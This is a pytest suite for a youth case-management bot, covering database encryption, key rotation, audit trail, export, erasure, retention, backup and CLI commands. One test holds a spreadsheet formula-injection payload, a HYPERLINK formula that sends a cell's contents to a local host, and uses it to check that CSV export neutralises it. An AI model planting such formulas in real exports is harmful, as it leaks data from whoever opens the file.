"""Encryption at rest, the audit trigger, export, erasure, retention, backup and restore.

Every store test here runs twice, on a plain and on an SQLCipher database (`db_key`).
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from datetime import date, timedelta
from typing import TYPE_CHECKING

import pytest

from apart_engine.instrument import AssessmentKind
from bot import encryption
from bot.admin_cli import write_export
from bot.cli import main
from bot.encryption import WrongKeyError, backup, file_state, reencrypt
from bot.store import Adjustment, Role, Staff, Store, YoungPerson

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from bot.clock import FixedClock

NOTE = "Seen at the drop-in; worried about the older friends"
OTHER_KEY = "another made-up passphrase"


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "apart.db"


@pytest.fixture
async def store(db_path: Path, clock: FixedClock, db_key: str | None) -> AsyncIterator[Store]:
    opened = await Store.open(db_path, clock=clock, key=db_key)
    yield opened
    await opened.close()


async def _practitioner(store: Store) -> Staff:
    return await store.enrol(7001, await store.add_team("North"), Role.PRACTITIONER)


async def _assessed_case(
    store: Store, staff: Staff, reference: str = "YP-P1", *, closed_on: date | None = None
) -> YoungPerson:
    """A case with one submitted assessment holding an answer, a note and an adjustment."""
    case = await store.add_young_person(reference, staff)
    kind = AssessmentKind.CLOSURE if closed_on else AssessmentKind.BASELINE
    draft = await store.start_assessment(case, kind, "apart", "1", staff, "date")
    await store.set_assessed_on(
        draft, closed_on or date(2026, 11, 2), step="item", current_item="q1"
    )
    draft = await store.assessment(draft.id, staff) or draft
    await store.record_answer(
        draft, "q1", 2, staff, next_step="summary", next_item=None, editing=False
    )
    await store.save_note(draft, "q1", NOTE, staff)
    adjustment = Adjustment("High", "Escalating in the last fortnight", "Medium")
    await store.adjust_band(draft, "risk", adjustment, staff)
    await store.submit(
        draft,
        staff,
        scores={"sections": []},
        risk=(2.0, "High"),
        resilience=(1.0, "Low"),
        closes_case=closed_on is not None,
    )
    return case


def _bytes_on_disk(path: Path) -> bytes:
    return b"".join(p.read_bytes() for p in path.parent.glob(f"{path.name}*") if p.is_file())


class TestEncryption:
    async def test_the_file_holds_the_note_only_when_not_encrypted(
        self, store: Store, db_path: Path, db_key: str | None
    ) -> None:
        await _assessed_case(store, await _practitioner(store))
        await store.close()

        on_disk = _bytes_on_disk(db_path)

        assert (NOTE.encode() in on_disk) is (db_key is None)
        assert file_state(db_path) == ("plain" if db_key is None else "encrypted")
        reopened = await Store.open(db_path, key=db_key)
        assert (
            NOTE in (await reopened.export_case(1, "test"))["assessments"][0]["notes"][0]["text"]
        )
        await reopened.close()

    async def test_a_wrong_key_stops_start_up_and_touches_nothing(
        self, tmp_path: Path, clock: FixedClock
    ) -> None:
        path = tmp_path / "apart.db"
        store = await Store.open(path, clock=clock, key="the right passphrase")
        await store.close()
        before = hashlib.sha256(_bytes_on_disk(path)).hexdigest()

        with pytest.raises(WrongKeyError, match="key is wrong"):
            await Store.open(path, key="not the right one")
        with pytest.raises(WrongKeyError, match="is encrypted"):
            await Store.open(path)

        assert hashlib.sha256(_bytes_on_disk(path)).hexdigest() == before

    async def test_a_key_on_a_plain_database_says_to_encrypt_it(self, tmp_path: Path) -> None:
        path = tmp_path / "apart.db"
        await (await Store.open(path)).close()

        with pytest.raises(WrongKeyError, match="encrypt-db"):
            await Store.open(path, key="a made-up passphrase")

    async def test_a_plain_database_is_encrypted_in_place_and_the_key_rotated(
        self, tmp_path: Path, clock: FixedClock
    ) -> None:
        path = tmp_path / "apart.db"
        plain = await Store.open(path, clock=clock)
        await _assessed_case(plain, await _practitioner(plain))
        version = await plain.schema_version()
        await plain.close()

        reencrypt(path, None, "the first passphrase")
        reencrypt(path, "the first passphrase", OTHER_KEY)

        assert NOTE.encode() not in _bytes_on_disk(path)
        with pytest.raises(WrongKeyError):
            await Store.open(path, key="the first passphrase")
        store = await Store.open(path, clock=clock, key=OTHER_KEY)
        assert await store.schema_version() == version
        assert (await store.find_case("YP-P1")) is not None
        assert (await store.export_case(1, "test"))["assessments"][0]["notes"][0]["text"] == NOTE
        await store.close()


class TestAudit:
    async def test_the_audit_trail_refuses_changes(self, store: Store) -> None:
        await _practitioner(store)

        for statement in ("UPDATE audit SET action = 'x'", "DELETE FROM audit"):
            with pytest.raises(encryption.DATABASE_ERRORS, match="append-only"):
                async with store.transaction() as db:
                    await db.execute(statement)

        assert [e["action"] for e in await store.audit_entries()] == ["enrol"]

    async def test_reads_changes_and_refusals_are_on_record(self, store: Store) -> None:
        staff = await _practitioner(store)
        case = await _assessed_case(store, staff)
        outsider = await store.enrol(7002, await store.add_team("South"), Role.PRACTITIONER)

        assert await store.young_person(case.id, staff) is not None
        assert await store.young_person(case.id, outsider) is None

        actions = [e["action"] for e in await store.audit_entries(young_person_id=case.id)]
        for action in ("create", "start", "answer", "note", "adjust", "submit", "view"):
            assert action in actions
        assert actions[-1] == "refused"

    async def test_entries_can_be_read_from_a_moment_on(
        self, store: Store, clock: FixedClock
    ) -> None:
        await _practitioner(store)
        clock.advance(timedelta(days=2))
        await store.add_team("South")
        await store.audit(None, "refused", detail="later")

        since = clock.now() - timedelta(days=1)
        assert [e["detail"] for e in await store.audit_entries(since=since)] == ["later"]


class TestExportAndErasure:
    async def test_an_export_holds_everything_about_the_case(self, store: Store) -> None:
        case = await _assessed_case(store, await _practitioner(store))

        record = await store.export_case(case.id, "a test")

        assessment = record["assessments"][0]
        assert record["young_person"]["reference"] == "YP-P1"
        assert assessment["answers"][0]["value"] == 2
        assert assessment["notes"][0]["text"] == NOTE
        assert assessment["band_adjustments"][0]["reason"] == "Escalating in the last fortnight"
        assert assessment["risk_band"] == "High"
        assert record["audit"][-1]["action"] == "export"

    async def test_erasure_removes_answers_notes_and_scores_and_is_recorded(
        self, store: Store
    ) -> None:
        staff = await _practitioner(store)
        case = await _assessed_case(store, staff)
        kept = await _assessed_case(store, staff, "YP-P2")

        assert await store.erase_case(case.id, "a test")
        assert not await store.erase_case(case.id, "a test"), "erasing twice does nothing"

        record = await store.export_case(case.id, "a test")
        assessment = record["assessments"][0]
        assert assessment["answers"] == []
        assert assessment["notes"] == []
        assert assessment["band_adjustments"] == []
        assert assessment["risk_score"] is None
        assert assessment["scores"] is None
        assert await store.young_person(case.id, staff) is None
        assert [c.young_person.reference for c in await store.caseload(staff)] == ["YP-P2"]
        assert "erase" in [e["action"] for e in record["audit"]]
        assert (await store.export_case(kept.id, "a test"))["assessments"][0]["notes"]

    def test_a_note_that_is_a_formula_is_written_to_the_csv_as_text(self, tmp_path: Path) -> None:
        """The QA probe: a note of =HYPERLINK(...) was a live formula in the case's CSV."""
        formula = '=HYPERLINK("http://127.0.0.1/x?"&A1,"open")'
        assessment = {
            "id": 1,
            "kind": "baseline",
            "status": "submitted",
            "assessed_on": "2026-01-12",
            "answers": [],
            "notes": [{"item_id": "R1", "text": formula}],
            "band_adjustments": [{"section_id": "risk", "band": "-", "reason": "x"}],
        }
        record = {"young_person": {"reference": "YP-7K3Q"}, "assessments": [assessment]}

        json_path, csv_path = write_export(record, tmp_path)

        with csv_path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        assert [r["value"] for r in rows] == ["'" + formula, "'-: x"]
        assert json.loads(json_path.read_text("utf-8")) == record

    async def test_retention_lists_closed_cases_past_the_period(self, store: Store) -> None:
        staff = await _practitioner(store)
        await _assessed_case(store, staff, "YP-OLD1", closed_on=date(2020, 1, 10))
        await _assessed_case(store, staff, "YP-NEW1", closed_on=date(2026, 1, 10))
        await _assessed_case(store, staff, "YP-OPEN1")

        due = await store.retention_due(date(2026, 12, 4), 72)

        assert [c.reference for c in due] == ["YP-OLD1"]


class TestBackup:
    async def test_a_backup_taken_while_open_restores(
        self, store: Store, db_path: Path, db_key: str | None, tmp_path: Path
    ) -> None:
        staff = await _practitioner(store)
        await _assessed_case(store, staff)
        copy = tmp_path / "backups" / "apart-backup.db"
        copy.parent.mkdir()

        await store.audit(None, "refused", detail="before the backup")
        backup(db_path, copy, db_key)
        await store.add_young_person("YP-AFTER1", staff)
        await store.close()

        assert file_state(copy) == ("plain" if db_key is None else "encrypted")
        for leftover in db_path.parent.glob("apart.db*"):
            leftover.unlink()
        shutil.copy(copy, db_path)
        restored = await Store.open(db_path, key=db_key)
        assert await restored.find_case("YP-P1") is not None
        assert await restored.find_case("YP-AFTER1") is None
        await restored.close()
        # The fixture closes the store again; a closed aiosqlite connection allows it.

    async def test_an_encrypted_backup_needs_the_key(
        self, tmp_path: Path, clock: FixedClock
    ) -> None:
        path = tmp_path / "apart.db"
        store = await Store.open(path, clock=clock, key="the right passphrase")
        await _assessed_case(store, await _practitioner(store))
        backup(path, tmp_path / "copy.db", "the right passphrase")
        await store.close()

        assert NOTE.encode() not in (tmp_path / "copy.db").read_bytes()
        with pytest.raises(WrongKeyError):
            await Store.open(tmp_path / "copy.db")


class TestCommandLine:
    """The operator's commands, run as `apart-bot` would run them."""

    @pytest.fixture
    def env(self, monkeypatch: pytest.MonkeyPatch, db_path: Path, db_key: str | None) -> Path:
        monkeypatch.setenv("APART_DB_PATH", str(db_path))
        if db_key is not None:
            monkeypatch.setenv("APART_DB_KEY", db_key)
        return db_path

    async def _seed(self, db_path: Path, key: str | None) -> None:
        store = await Store.open(db_path, key=key)
        staff = await _practitioner(store)
        await _assessed_case(store, staff)
        await _assessed_case(store, staff, "YP-OLD1", closed_on=date(2019, 1, 10))
        await store.close()

    async def test_invite_prints_a_deep_link_that_enrols(
        self,
        env: Path,
        db_key: str | None,
        monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str],
    ) -> None:
        monkeypatch.setenv("APART_BOT_USERNAME", "apart_test_bot")
        assert await _run(["team", "add", "North"]) == 0

        assert await _run(["invite", "--team", "North", "--role", "lead", "--expires", "1d"]) == 0

        out = capsys.readouterr().out
        code = out.split("?start=")[1].split()[0]
        assert "https://t.me/apart_test_bot?start=" in out
        store = await Store.open(env, key=db_key)
        staff = await store.redeem_invitation(code, 8001)
        await store.close()
        assert staff.role is Role.LEAD

    async def test_staff_list_and_revoke(
        self, env: Path, db_key: str | None, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert await _run(["bootstrap-admin", "8100"]) == 0
        assert await _run(["staff", "add", "8101", "--team", "Typo"]) == 2
        assert await _run(["team", "add", "   "]) == 2
        assert await _run(["team", "add", "North"]) == 0
        assert await _run(["staff", "add", "8101", "--team", "North"]) == 0

        assert await _run(["revoke", "8101"]) == 0
        assert await _run(["staff", "list"]) == 0
        assert await _run(["bootstrap-admin", "8102"]) == 2

        lines = capsys.readouterr().out.splitlines()
        listed = [line for line in lines if line.startswith("#")]
        assert "admin" in listed[0]
        assert "active" in listed[0]
        assert "8101" in listed[1]
        assert "REVOKED" in listed[1]

    async def test_audit_export_and_erase_a_case(
        self,
        env: Path,
        db_key: str | None,
        tmp_path: Path,
        capsys: pytest.CaptureFixture[str],
    ) -> None:
        await self._seed(env, db_key)
        out_dir = tmp_path / "sar"

        assert await _run(["export-case", "YP-P1", "--out", str(out_dir), "--plain"]) == 0
        assert await _run(["erase-case", "YP-P1", "--yes"]) == 0
        assert await _run(["audit", "--case", "YP-P1", "--since", "2020-01-01"]) == 0

        exported = json.loads((out_dir / "YP-P1.json").read_text("utf-8"))
        assert exported["assessments"][0]["notes"][0]["text"] == NOTE
        with (out_dir / "YP-P1.csv").open(encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        assert {"answer", "note", "band adjustment"} <= {row["what"] for row in rows}
        trail = capsys.readouterr().out
        assert "export" in trail
        assert "erase" in trail
        assert "command line" in trail

    async def test_erase_without_confirmation_erases_nothing(
        self, env: Path, db_key: str | None
    ) -> None:
        await self._seed(env, db_key)

        assert await _run(["erase-case", "YP-P1"]) == 1

        store = await Store.open(env, key=db_key)
        case = await store.find_case("YP-P1")
        assert case is not None
        assert (await store.export_case(case.id, "test"))["assessments"][0]["notes"]
        await store.close()

    async def test_an_encrypted_export_needs_plain_to_be_asked_for(
        self, env: Path, db_key: str | None, tmp_path: Path
    ) -> None:
        await self._seed(env, db_key)

        status = await _run(["export-case", "YP-P1", "--out", str(tmp_path / "x")])

        assert status == (0 if db_key is None else 2)

    async def test_retention_lists_then_applies(
        self, env: Path, db_key: str | None, capsys: pytest.CaptureFixture[str]
    ) -> None:
        await self._seed(env, db_key)

        assert await _run(["retention"]) == 0
        listed = capsys.readouterr().out
        assert await _run(["retention", "--apply"]) == 0
        assert await _run(["retention"]) == 0

        assert "YP-OLD1" in listed
        assert "YP-P1" not in listed
        assert "No closed case is older" in capsys.readouterr().out.splitlines()[-1]

    async def test_backup_and_encrypt_db(
        self,
        env: Path,
        db_key: str | None,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        await self._seed(env, db_key)

        assert await _run(["backup", str(tmp_path / "copy.db")]) == 0
        if db_key is None:
            monkeypatch.setenv("APART_DB_KEY", OTHER_KEY)
            assert await _run(["encrypt-db"]) == 0
        else:
            monkeypatch.setenv("APART_NEW_DB_KEY", OTHER_KEY)
            assert await _run(["encrypt-db", "--rotate"]) == 0

        assert file_state(tmp_path / "copy.db") == ("plain" if db_key is None else "encrypted")
        store = await Store.open(env, key=OTHER_KEY)
        assert await store.find_case("YP-P1") is not None
        await store.close()


async def _run(argv: list[str]) -> int:
    """Run one command on its own thread, since each command starts its own event loop."""
    import asyncio

    return await asyncio.to_thread(main, argv)
